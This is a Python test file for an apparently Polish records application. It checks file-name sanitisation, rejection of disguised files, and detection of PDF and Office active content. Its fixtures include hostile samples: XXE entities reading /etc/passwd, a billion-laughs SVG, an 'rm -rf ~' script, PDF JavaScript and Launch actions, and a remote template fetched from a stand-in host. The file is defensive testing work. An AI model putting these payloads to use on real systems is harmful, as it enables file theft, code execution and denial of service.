"""Files people bring: names that lead elsewhere, files that are not what they say, documents that act by themselves."""

import time
import zlib
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pypdfium2  # noqa: TID253 a test may pay for it
import pypdfium2.raw  # noqa: TID253
import pytest

from app.bootstrap import Services
from app.core.errors import Invalid, Refusal
from app.core.file_names import LONGEST, bare
from app.records.active_content import active_content
from app.records.files import FORMS, MAX_UNPACKED, PICTURES, check_file, media_type, safe_name
from app.shell.pdf_output import viewing_copy

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


# -- names --------------------------------------------------------------------------------------------------------

NAMES = {
    "../../../etc/cron.d/zadanie.pdf": "zadanie.pdf",
    "..\\..\\Autostart\\a.pdf": "a.pdf",
    "/etc/passwd": "passwd.pdf",
    "C:\\Windows\\System32\\a.pdf": "a.pdf",
    "C:a.pdf": "C_a.pdf",
    "\\\\serwer\\udział\\a.pdf": "a.pdf",
    "//serwer/udział/a.pdf": "a.pdf",
    "\\\\?\\C:\\a.pdf": "a.pdf",
    "a.pdf:ukryty.exe": "a.pdf_ukryty.exe.pdf",
    "a.pdf::$DATA": "a.pdf__$DATA.pdf",
    "CON": "_CON.pdf",
    "con.pdf": "_con.pdf",
    "NUL.txt": "_NUL.txt.pdf",
    "Com1.tar.pdf": "_Com1.tar.pdf",
    "LPT¹.pdf": "_LPT¹.pdf",
    "konto.pdf": "konto.pdf",
    "a.pdf. . .": "a.pdf",
    "...": "plik.pdf",
    ".bashrc": "bashrc.pdf",
    "wniosek\u202efdp.exe": "wniosekfdp.exe.pdf",
    "wniosek\u2067fdp.\u2069exe": "wniosekfdp.exe.pdf",
    "a\u200b\u200e\ufeff.pdf": "a.pdf",
    "\x00\x1b[2J.pdf": "[2J.pdf",
    "a\udc80.pdf": "a.pdf",
    "a\r\nb.pdf": "ab.pdf",
    'a"b|c*d?e<f>.pdf': "a_b_c_d_e_f_.pdf",
    "a%2f..%2fb.pdf": "a%2f..%2fb.pdf",
    "z\u0307o\u0301łw.pdf": "żółw.pdf",
    "": "plik.pdf",
    "faktura.pdf.exe": "faktura.pdf.exe.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_one_plain_name_on_every_system(name: str) -> None:
    assert safe_name(name, "application/pdf") == NAMES[name]


@pytest.mark.parametrize("name", [*NAMES, "ż" * 5000, "a" * 5000 + ".pdf", "." * 300 + "pdf", "a." + "b" * 400])
def test_a_stored_name_fits_into_a_record_and_onto_a_disk(services: Services, tmp_path: Path, name: str) -> None:
    kept = services.files.add(name, PDF).name
    assert 0 < len(kept) <= LONGEST
    assert kept.endswith(".pdf")
    assert bare(kept) == kept
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / kept).write_bytes(b"x")
    assert [path.name for path in (tmp_path / "folder").iterdir()] == [kept]
    assert [path.name for path in tmp_path.iterdir() if path.is_file() and path.suffix == ".pdf"] == []


@pytest.mark.parametrize("name", NAMES)
def test_the_copy_for_the_viewer_stays_in_its_folder_and_opens_as_what_it_is(tmp_path: Path, name: str) -> None:
    copy = viewing_copy(tmp_path, PDF, name)
    assert copy.parent.parent == tmp_path
    assert copy.suffix == ".pdf"


# -- what pretends ------------------------------------------------------------------------------------------------

PRETENDERS = {
    "page": b"<html><script>alert(1)</script></html>",
    "page with the mark of a PDF inside": b"<html><!-- %PDF-1.7 --></html>",
    "program": b"MZ\x90\x00" + bytes(64),
    "Linux program": b"\x7fELF" + bytes(64),
    "script": b"#!/bin/sh\nrm -rf ~\n%PDF-1.7\n",
    "shortcut": b"[InternetShortcut]\nURL=file:///c:/windows/system32/calc.exe\n",
    "Windows shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(64),
    "old Word document with macros": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "PDF behind a blank": b" %PDF-1.7",
    "RTF": b"{\\rtf1\\object}",
}


@pytest.mark.parametrize("content", PRETENDERS.values(), ids=PRETENDERS)
def test_what_pretends_to_be_a_pdf_is_not_let_in_and_not_opened(
    services: Services, tmp_path: Path, content: bytes
) -> None:
    with pytest.raises(Invalid):
        services.files.add("wniosek.pdf", content)
    with pytest.raises(Refusal, match="nie jest dokumentem ani obrazem"):
        viewing_copy(tmp_path, content, "wniosek.pdf")
    assert list(tmp_path.glob("**/wniosek*")) == []


def test_a_file_of_two_kinds_opens_as_the_kind_it_was_stored_as(services: Services, tmp_path: Path) -> None:
    held = BytesIO()
    with ZipFile(held, "w") as archive:
        archive.writestr("evil.js", "x")
    both = PDF + b"<script>alert(1)</script>" + held.getvalue()
    stored = services.files.add("strona.html", both)
    assert (stored.media_type, stored.name) == ("application/pdf", "strona.html.pdf")
    assert viewing_copy(tmp_path, both, "strona.html").suffix == ".pdf"


def packed(parts: dict[str, bytes]) -> bytes:
    held = BytesIO()
    with ZipFile(held, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


@pytest.mark.parametrize(
    "parts",
    [
        {"word/document.xml": b"x", "word/vbaProject.bin": b"x"},
        {"mimetype": b"x", "content.xml": b"x", "Basic/Standard/Module1.xml": b"x"},
        {"mimetype": b"x", "content.xml": b"x", "Scripts/python/a.py": b"x"},
        {"word/document.xml": b"x", "word/media/a.png": bytes(MAX_UNPACKED)},
    ],
    ids=["macros of Word", "macros of LibreOffice", "script", "bomb"],
)
def test_documents_with_macros_and_bombs_are_refused(parts: dict[str, bytes]) -> None:
    content = packed(parts)
    assert len(content) < 1_000_000
    with pytest.raises(Invalid):
        check_file("pismo.docx", content)


SVGS = {
    "laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + ']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>',
    "file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "parameter": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&y;</text></svg>',
}


@pytest.mark.parametrize("content", SVGS.values(), ids=SVGS)
def test_entities_in_a_drawing_are_refused_at_once(content: str) -> None:
    begun = time.monotonic()
    with pytest.raises(Refusal):
        check_file("herb.svg", content.encode(), PICTURES)
    assert time.monotonic() - begun < 2


# -- what acts by itself ------------------------------------------------------------------------------------------


def pdf(catalogue: bytes, *more: bytes) -> bytes:
    """A PDF of one blank page whose catalogue says more, with a sound list of objects."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 20 20] >>",
        *more,
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def object_stream(text: bytes) -> bytes:
    data = zlib.compress(text)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(data),
        data,
    )


JAVASCRIPT = b"<< /S /JavaScript /JS (app.launchURL\\('http://zly.example'\\)) >>"
TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    b'Target="http://zly.example/a.dotm" TargetMode="External"/></Relationships>'
)
ACTING = {
    "JavaScript when opened": (pdf(b"/OpenAction " + JAVASCRIPT), "JavaScript"),
    "name written with codes": (pdf(b"/OpenAction << /S /J#61va#53cript /JS (x) >>"), "JavaScript"),
    "packed object": (pdf(b"/OpenAction 5 0 R", object_stream(b"5 0 " + JAVASCRIPT)), "JavaScript"),
    "program": (pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>"), "uruchamianie programów"),
    "files inside": (pdf(b"/Names << /EmbeddedFiles 4 0 R >>"), "dołączone inne pliki"),
    "sends the form": (pdf(b"/AcroForm << >> /AA << /S /SubmitForm >>"), "wysyłanie danych formularza"),
    "XFA": (pdf(b"/AcroForm << /XFA 4 0 R >>"), "formularz XFA"),
    "film": (pdf(b"/X << /Subtype /RichMedia >>"), "film albo dźwięk"),
    "encrypted": (PDF + b"trailer << /Encrypt 4 0 R >>", "treść zaszyfrowana, której nie da się sprawdzić"),
    "packed in an unknown way": (
        pdf(b"", b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxx\nendstream"),
        "spakowane obiekty, których nie da się sprawdzić",
    ),
    "bomb of packed objects": (
        pdf(b"", *(object_stream(bytes(20_000_000)) for _ in range(3))),
        "spakowane obiekty, których nie da się sprawdzić",
    ),
    "template from the network": (
        packed({"word/document.xml": b"x", "word/_rels/settings.xml.rels": TEMPLATE}),
        "szablon albo obiekt pobierany z innego miejsca",
    ),
    "objects in a document": (
        packed({"word/document.xml": b"x", "word/embeddings/a.bin": b"x"}),
        "osadzone obiekty",
    ),
}


@pytest.mark.parametrize("name", ACTING)
def test_a_document_that_acts_by_itself_is_recognised(name: str) -> None:
    content, told = ACTING[name]
    assert media_type(content) in FORMS
    begun = time.monotonic()
    assert told in active_content(content)
    assert time.monotonic() - begun < 2


def test_a_document_that_only_shows_something_is_not_warned_about(demo_services: Services) -> None:
    card = demo_services.prints.cards(demo_services.cards.all()[:2], "standard")
    goes_to_a_page = pdf(b"/OpenAction [3 0 R /XYZ null null 0] /Lang (pl) /ViewerPreferences << >>")
    form = pdf(b"/AcroForm << /Fields [] >>", object_stream(b"5 0 << /FT /Tx /T (imie) >>"))
    document = packed(
        {"word/document.xml": b"x", "word/_rels/document.xml.rels": b'<Relationship Type="http://x/styles"/>'}
    )
    noise = b"%PDF-1.4\nstream\n" + zlib.compress(bytes(range(256)) * 20_000) + b"\nendstream"
    for content in (PDF, card, goes_to_a_page, form, document, noise, b"\x89PNG\r\n\x1a\n"):
        assert active_content(content) == ()


def test_a_hostile_pdf_is_looked_through_in_a_moment() -> None:
    for end in (b"", b"endstream"):
        many = b"%PDF-1.7\n" + b"/ObjStm stream\n" * 600_000 + end
        begun = time.monotonic()
        assert active_content(many)
        assert time.monotonic() - begun < 5


def test_the_library_that_draws_pages_can_run_no_script() -> None:
    """Built without V8 and XFA; and the program never starts its form environment, which would run actions."""
    assert not {"V8", "XFA"} & set(pypdfium2.PDFIUM_INFO.flags)
    assert not hasattr(pypdfium2.raw, "FPDF_GetRecommendedV8Flags")
    document = pypdfium2.PdfDocument(ACTING["JavaScript when opened"][0])
    try:
        assert document.formenv is None
        assert len(document) == 1
    finally:
        document.close()
    source = Path(__file__).parents[2].joinpath("app")
    using = [path.name for path in source.rglob("*.py") if "init_forms" in path.read_text("utf-8")]
    assert using == []
